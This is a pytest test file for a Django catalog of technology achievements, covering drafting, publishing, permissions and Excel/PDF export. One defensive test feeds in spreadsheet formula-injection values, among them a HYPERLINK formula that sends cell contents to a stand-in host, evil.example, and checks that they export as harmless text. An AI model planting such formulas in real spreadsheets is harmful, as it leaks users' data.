"""The guidance catalog (新技术产业化应用指导目录): drafted by HQ from published achievements, then published."""

from io import BytesIO

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import Client
from django.utils import timezone, translation
from openpyxl import load_workbook

from mengkeju.catalog import services
from mengkeju.catalog.models import GuidanceCatalog, GuidanceEntry, Status

from .factories import AchievementFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def draft(people):
    return services.create_guidance_catalog(year=timezone.localdate().year, by=people["hq_operator"])


def test_hq_drafts_fills_and_publishes_a_catalog(people, draft):
    hq = people["hq_operator"]
    achievement = AchievementFactory(title="盐碱地耐盐苜蓿新品种")
    services.add_guidance_entry(
        draft, achievement, reason="耐盐性强，已中试", application_scenario="河套灌区盐碱地改良", by=hq
    )
    services.publish_guidance_catalog(draft, by=hq)
    draft.refresh_from_db()
    assert draft.status == GuidanceCatalog.Status.PUBLISHED and draft.published_by == hq
    with pytest.raises(ValidationError):
        services.add_guidance_entry(draft, AchievementFactory(), reason="x", application_scenario="y", by=hq)


def test_entry_for_an_unpublished_achievement_is_refused_in_chinese_and_changes_nothing(people, draft):
    achievement = AchievementFactory(status=Status.SUBMITTED)
    with translation.override("zh-hans"), pytest.raises(ValidationError) as info:
        services.add_guidance_entry(
            draft, achievement, reason="先进", application_scenario="乳品加工", by=people["hq_operator"]
        )
    assert "只有已发布的科技成果才能列入指导目录" in " ".join(info.value.messages)
    assert not GuidanceEntry.objects.exists()


def test_entry_needs_reason_and_scenario_and_only_once(people, draft):
    hq = people["hq_operator"]
    achievement = AchievementFactory()
    with pytest.raises(ValidationError) as info:
        services.add_guidance_entry(draft, achievement, reason=" ", application_scenario="", by=hq)
    assert set(info.value.message_dict) == {"reason", "application_scenario"}
    services.add_guidance_entry(draft, achievement, reason="r", application_scenario="s", by=hq)
    with pytest.raises(ValidationError):
        services.add_guidance_entry(draft, achievement, reason="r", application_scenario="s", by=hq)
    assert GuidanceEntry.objects.count() == 1


def test_empty_catalog_cannot_be_published_and_a_year_has_one_catalog(people, draft):
    with pytest.raises(ValidationError):
        services.publish_guidance_catalog(draft, by=people["hq_operator"])
    with pytest.raises(ValidationError):
        services.create_guidance_catalog(year=draft.year, by=people["hq_operator"])
    assert GuidanceCatalog.objects.count() == 1


@pytest.mark.parametrize("who", ["owner", "staff_in_scope", "broker_in_scope", "expert"])
def test_only_headquarters_curates(people, who):
    with pytest.raises(PermissionDenied):
        services.create_guidance_catalog(year=2024, by=people[who])


def test_published_catalog_exports_to_excel_and_pdf_for_everyone(people, draft):
    hq = people["hq_operator"]
    a = AchievementFactory(title="乳酸菌高密度发酵技术")
    services.add_guidance_entry(draft, a, reason="国内领先", application_scenario="发酵乳生产", by=hq)
    anonymous = Client()
    assert anonymous.get(f"/guidance/{draft.year}/").status_code == 404  # a draft is not public yet
    services.publish_guidance_catalog(draft, by=hq)
    page = anonymous.get(f"/guidance/{draft.year}/")
    assert page.status_code == 200 and "乳酸菌高密度发酵技术" in page.content.decode()
    book = load_workbook(BytesIO(anonymous.get(f"/guidance/{draft.year}/export.xlsx").content))
    rows = list(book.active.iter_rows(min_row=4, values_only=True))
    assert rows == [(1, "乳酸菌高密度发酵技术", a.owner.name, "稀土永磁材料", 6, "国内领先", "发酵乳生产")]
    pdf = anonymous.get(f"/guidance/{draft.year}/export.pdf")
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")


def test_the_public_export_writes_formulas_and_control_characters_as_harmless_text(people, draft):
    """A title that is a formula stays text in the workbook (it shows as typed and does not run), and
    a control character (public listing A2-0195 has \\x02) is dropped instead of failing the export."""
    hq = people["hq_operator"]
    title = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    services.add_guidance_entry(
        draft, AchievementFactory(title=title), reason="=1+1", application_scenario="@SUM(A1)", by=hq
    )
    services.add_guidance_entry(
        draft,
        AchievementFactory(title="钕铁硼\x02磁体回收"),
        reason="-负压",
        application_scenario="+扩产",
        by=hq,
    )
    services.publish_guidance_catalog(draft, by=hq)
    response = Client().get(f"/guidance/{draft.year}/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=4))
    cells = {cell.value: cell.data_type for row in rows for cell in row}
    for text in (title, "=1+1", "@SUM(A1)", "-负压", "+扩产"):
        assert cells[text] == "s", text  # a string cell: no formula
    assert "钕铁硼磁体回收" in cells
    assert not any(row[0].data_type == "f" for row in rows)
    assert isinstance(rows[0][0].value, int)  # figures stay numbers


def test_guidance_api_walk(people):
    from rest_framework.test import APIClient

    api = APIClient()
    api.force_authenticate(people["hq_operator"])
    year = timezone.localdate().year
    assert api.post("/api/guidance/", {"year": year}, format="json").status_code == 201
    bad = api.post(
        f"/api/guidance/{year}/entries/",
        {
            "achievement": AchievementFactory(status=Status.DRAFT).pk,
            "reason": "r",
            "application_scenario": "s",
        },
        format="json",
    )
    assert bad.status_code == 400 and "achievement" in bad.json()
    ok = api.post(
        f"/api/guidance/{year}/entries/",
        {"achievement": AchievementFactory().pk, "reason": "r", "application_scenario": "s"},
        format="json",
    )
    assert ok.status_code == 201 and len(ok.json()["entries"]) == 1
    assert api.post(f"/api/guidance/{year}/publish/").json()["status"] == "published"
    assert APIClient().get(f"/api/guidance/{year}/").status_code == 200
